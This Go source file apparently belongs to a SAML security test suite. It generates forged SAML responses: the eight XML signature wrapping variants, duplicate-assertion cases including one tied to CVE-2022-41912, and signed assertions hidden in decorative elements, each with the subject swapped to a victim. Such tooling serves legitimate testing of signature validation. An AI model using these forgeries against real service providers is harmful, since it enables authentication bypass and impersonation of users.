package samlattack

import (
	"fmt"

	"github.com/beevik/etree"
)

const (
	protocol  = "urn:oasis:names:tc:SAML:2.0:protocol"
	assertion = "urn:oasis:names:tc:SAML:2.0:assertion"
	xmldsig   = "http://www.w3.org/2000/09/xmldsig#"
)

// Wrapped returns the eight signature wrappings that SAML Raider knows (rows 1 to
// 8), each with a fresh id on the forged part and with the genuine id on it.
func (f *Forger) Wrapped() []Attack {
	var out []Attack
	for _, fresh := range []bool{true, false} {
		for i, wrapping := range []func(*Forger, string) tree{xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8} {
			id, which := f.Person.AssertionID, "genuine id"
			if i < 2 {
				id = f.Person.ID
			}
			if fresh {
				id, which = "id666", "fresh id"
			}
			out = append(out, wrapping(f, id).attack(i+1, fmt.Sprintf("XSW%d, %s", i+1, which)))
		}
	}
	return out
}

// responseWrap returns the genuine signed response as two trees: one to become
// evil, with its signature, and the original without it.
func (f *Forger) responseWrap(id string) (evil tree, sig, original *etree.Element) {
	evil = parse(f.Valid(onlyResponseSigned))
	original = evil.response.Copy()
	strip(original)
	evil.response.CreateAttr("ID", id)
	evil.assertion.CreateAttr("ID", "id667")
	evil.assertion.FindElement("./Subject/NameID").SetText(f.Victim)
	return evil, evil.response.FindElement("./Signature"), original
}

// xsw1: a forged Response whose Signature holds the original Response.
func xsw1(f *Forger, id string) tree {
	t, sig, original := f.responseWrap(id)
	sig.AddChild(original)
	return t
}

// xsw2: a forged Response with the original beside its Signature.
func xsw2(f *Forger, id string) tree {
	t, sig, original := f.responseWrap(id)
	before(sig, original)
	return t
}

// xsw3: the forged assertion in front of the original.
func xsw3(f *Forger, id string) tree {
	t := parse(f.Valid(onlyAssertionSigned))
	before(t.assertion, f.evil(t, id))
	return t
}

// xsw4: the original inside of the forged assertion.
func xsw4(f *Forger, id string) tree {
	t := parse(f.Valid(onlyAssertionSigned))
	evil := f.evil(t, id)
	before(t.assertion, evil)
	t.response.RemoveChild(t.assertion)
	evil.AddChild(t.assertion)
	return t
}

// xsw5: the forged assertion keeps the signature, the original comes last without it.
func xsw5(f *Forger, id string) tree {
	t := parse(f.Valid(onlyAssertionSigned))
	original := t.assertion.Copy()
	strip(original)
	t.assertion.CreateAttr("ID", id)
	t.assertion.FindElement("./Subject/NameID").SetText(f.Victim)
	t.response.AddChild(original)
	return t
}

// xsw6: as xsw5, but the original is inside of the signature.
func xsw6(f *Forger, id string) tree {
	t := xsw5(f, id)
	original := t.response.ChildElements()[len(t.response.ChildElements())-1]
	t.response.RemoveChild(original)
	t.assertion.FindElement("./Signature").AddChild(original)
	return t
}

// xsw7: the forged assertion in an Extensions element, which validators skip.
func xsw7(f *Forger, id string) tree {
	t := parse(f.Valid(onlyAssertionSigned))
	before(t.assertion, wrap("saml2p:Extensions", protocol, f.evil(t, id)))
	return t
}

// xsw8: the original in an Object of the forged assertion's signature.
func xsw8(f *Forger, id string) tree {
	t := xsw5(f, id)
	original := t.response.ChildElements()[len(t.response.ChildElements())-1]
	t.response.RemoveChild(original)
	t.assertion.FindElement("./Signature").AddChild(wrap("ds:Object", xmldsig, original))
	return t
}

// Doubled returns the documents with two assertions (rows 9 and 10).
func (f *Forger) Doubled() []Attack {
	after := parse(f.Valid(onlyAssertionSigned))
	after.response.AddChild(f.evil(after, "id666"))

	second := parse(f.Valid(onlyAssertionSigned)) // CVE-2022-41912
	evil := f.evil(second, "id666")
	before(second.assertion, evil)

	foreign := parse(f.Valid(onlyAssertionSigned))
	other := f.evil(foreign, "id666")
	other.CreateAttr("xmlns:saml2", "urn:foreign")
	foreign.response.AddChild(other)
	return []Attack{
		after.attack(9, "XSW10: a forged assertion after the genuine one"),
		second.attack(10, "two assertions, the second signed"),
		foreign.attack(10, "a second assertion in a foreign namespace"),
	}
}

// Hidden returns the genuine assertion in places where it is only decoration
// (rows 11 and 12).
func (f *Forger) Hidden() []Attack {
	var out []Attack
	for name, holder := range map[string]func(*etree.Element) *etree.Element{
		"Extensions":       func(a *etree.Element) *etree.Element { return wrap("saml2p:Extensions", protocol, a) },
		"an Object":        func(a *etree.Element) *etree.Element { return wrap("ds:Object", xmldsig, a) },
		"a StatusDetail":   func(a *etree.Element) *etree.Element { return wrap("saml2p:StatusDetail", protocol, a) },
		"an Advice":        func(a *etree.Element) *etree.Element { return wrap("saml2:Advice", assertion, a) },
		"another Response": func(a *etree.Element) *etree.Element { return wrap("saml2p:Response", protocol, a) },
	} {
		t := parse(f.Valid(onlyAssertionSigned))
		evil := f.evil(t, "id666")
		t.response.RemoveChild(t.assertion)
		place := t.response
		if name == "a StatusDetail" {
			place = t.response.FindElement("./Status")
		}
		if name == "an Advice" {
			place = evil
		}
		place.AddChild(holder(t.assertion))
		t.response.AddChild(evil)
		out = append(out, t.attack(11, "the signed assertion in "+name+", a forged one at its place"))

		alone := parse(f.Valid(onlyAssertionSigned))
		alone.response.RemoveChild(alone.assertion)
		alone.response.AddChild(holder(alone.assertion))
		out = append(out, alone.attack(11, "the signed assertion only in "+name))
	}
	return append(out, f.errorWithDecoy())
}

// errorWithDecoy is a genuinely signed failure, with a forged success around it.
func (f *Forger) errorWithDecoy() Attack {
	failure := must(f.IdP.NewErrorResponse(errorFor(f.Person)))
	signed := parse(failure)
	t := parse(f.Valid(nil))
	t.response.CreateAttr("ID", "id668")
	strip(t.response)
	evil := f.evil(t, "id666")
	t.response.RemoveChild(t.assertion)
	t.response.AddChild(evil)
	sig := signed.response.FindElement("./Signature").Copy()
	original := signed.response.Copy()
	strip(original)
	sig.AddChild(wrap("ds:Object", xmldsig, original))
	before(t.response.FindElement("./Status"), sig)
	return t.attack(12, "a signed failure in a decoy signature")
}
